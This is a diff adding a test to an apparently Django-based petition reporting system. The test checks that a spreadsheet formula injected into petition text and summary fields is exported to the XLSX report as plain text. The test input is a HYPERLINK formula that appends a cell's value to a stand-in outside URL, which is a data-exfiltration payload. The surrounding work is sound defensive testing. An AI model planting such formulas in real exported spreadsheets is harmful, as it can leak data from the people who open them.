@@ -580,3 +580,26 @@ def test_the_list_reads_in_the_same_queries_whatever_the_number_of_reports(world
         return len(captured.captured_queries)
 
     assert queries_for(3) == queries_for(25)  # 25 is more than a page
+
+
+def test_a_petition_text_like_a_formula_is_text_in_the_report_workbook(world, seeded):
+    import zipfile
+
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"xem")'
+    services.petition_create(council=world.council, user=world.users["office"], round=seeded["round"],
+                             text=formula, summary="@" + formula, voters=[{"name": "Cử tri CÔNGTHỨC"}])
+    report = request_round_report(world, seeded)
+    assert reports.report_render(report_id=report.pk) is True
+    report.refresh_from_db()
+    data = read(report.xlsx)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = archive.read(name).decode()
+                assert "<f>" not in xml and "<f " not in xml, name
+    sheet = load_workbook(io.BytesIO(data))["Kiến nghị"]
+    header = [c.value for c in sheet[1]]
+    cells = [row[header.index("Nội dung")] for row in sheet.iter_rows(min_row=2) if row[header.index("Nội dung")].value == formula]
+    assert len(cells) == 1 and cells[0].data_type == "s"
+    summary = cells[0].parent.cell(row=cells[0].row, column=header.index("Tóm tắt") + 1)
+    assert (summary.value, summary.data_type) == ("@" + formula, "s")
